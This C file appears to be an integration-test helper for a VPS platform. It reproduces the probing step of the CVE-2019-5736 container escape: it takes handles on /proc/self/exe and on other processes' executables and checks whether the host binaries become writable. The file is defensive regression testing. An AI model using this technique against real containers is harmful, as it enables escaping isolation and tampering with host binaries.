/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The CVE-2019-5736 attack, as a tenant would run it (tests/integration/escape.sh). Refuses to
 * run outside a VPS (no /etc/vpsctl-escape-token there).
 *
 *   exegrab retry FD         FD is an O_PATH handle that exegrab-ld (the VPS's ELF loader, so
 *                            run in any dynamic binary exec'd inside) took on /proc/self/exe:
 *                            retry open(O_WRONLY) on it once the binary no longer runs;
 *                            results in /grab.result ("DEV:INO how").
 *   exegrab watch SECONDS    in the background: an O_PATH handle on the exe of every process
 *                            that shows up, then open(O_WRONLY) on each; /watch.result.
 *
 * "how" is "WRITABLE" when the write open succeeded, else the errno name.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HANDLES 512

struct handle {
	int fd;
	dev_t dev;
	ino_t ino;
};

static const char *try_write(int fd)
{
	char path[64];
	int w;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	w = open(path, O_WRONLY | O_CLOEXEC);
	if (w >= 0) {
		close(w);
		return "WRITABLE";
	}
	return strerrorname_np(errno);
}

static void report(FILE *f, const struct handle *h, const char *how)
{
	fprintf(f, "%u:%lu %s\n", (unsigned)h->dev, (unsigned long)h->ino, how);
	fflush(f);
}

/* The binary stays busy (ETXTBSY) while it runs: wait for it to end, as the real attack does. */
static void grab_later(struct handle h)
{
	FILE *f = fopen("/grab.result", "ae");
	const char *how = "ETXTBSY";

	if (!f)
		_exit(1);
	for (int i = 0; i < 100 && strcmp(how, "ETXTBSY") == 0; i++) {
		usleep(50000);
		how = try_write(h.fd);
	}
	report(f, &h, how);
	_exit(0);
}

static int retry(const char *arg)
{
	struct handle h;
	struct stat st;

	h.fd = (int)strtol(arg, NULL, 10);
	if (fstat(h.fd, &st) < 0)
		return 1;
	h.dev = st.st_dev;
	h.ino = st.st_ino;
	grab_later(h);
	return 0;
}

static int seen(const struct handle *hs, size_t n, const struct stat *st)
{
	for (size_t i = 0; i < n; i++)
		if (hs[i].dev == st->st_dev && hs[i].ino == st->st_ino)
			return 1;
	return 0;
}

static size_t scan(struct handle *hs, size_t n, const struct stat *self)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d)) && n < MAX_HANDLES) {
		char path[64];
		struct stat st;
		int fd;

		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || seen(hs, n, &st) ||
		    (st.st_dev == self->st_dev && st.st_ino == self->st_ino)) {
			close(fd);
			continue;
		}
		hs[n++] = (struct handle){fd, st.st_dev, st.st_ino};
	}
	if (d)
		closedir(d);
	return n;
}

static int watch(int seconds)
{
	static struct handle hs[MAX_HANDLES];
	time_t end = time(NULL) + seconds;
	struct stat self;
	size_t n = 0;
	FILE *f;

	if (stat("/proc/self/exe", &self) < 0)
		return 1;
	if (fork() != 0)
		return 0; /* the caller's exec returns; we go on in the background */
	setsid();
	while (time(NULL) < end)
		n = scan(hs, n, &self);
	sleep(1); /* let the last of them end, so ETXTBSY says nothing */
	f = fopen("/watch.result.tmp", "we");
	if (!f)
		_exit(1);
	for (size_t i = 0; i < n; i++)
		report(f, &hs[i], try_write(hs[i].fd));
	fclose(f);
	rename("/watch.result.tmp", "/watch.result");
	_exit(0);
}

int main(int argc, char **argv)
{
	if (access("/etc/vpsctl-escape-token", F_OK) != 0) {
		fprintf(stderr, "exegrab: not inside a test VPS, refusing\n");
		return 2;
	}
	if (argc == 3 && strcmp(argv[1], "watch") == 0)
		return watch((int)strtol(argv[2], NULL, 10));
	if (argc == 3 && strcmp(argv[1], "retry") == 0)
		return retry(argv[2]);
	return 2;
}
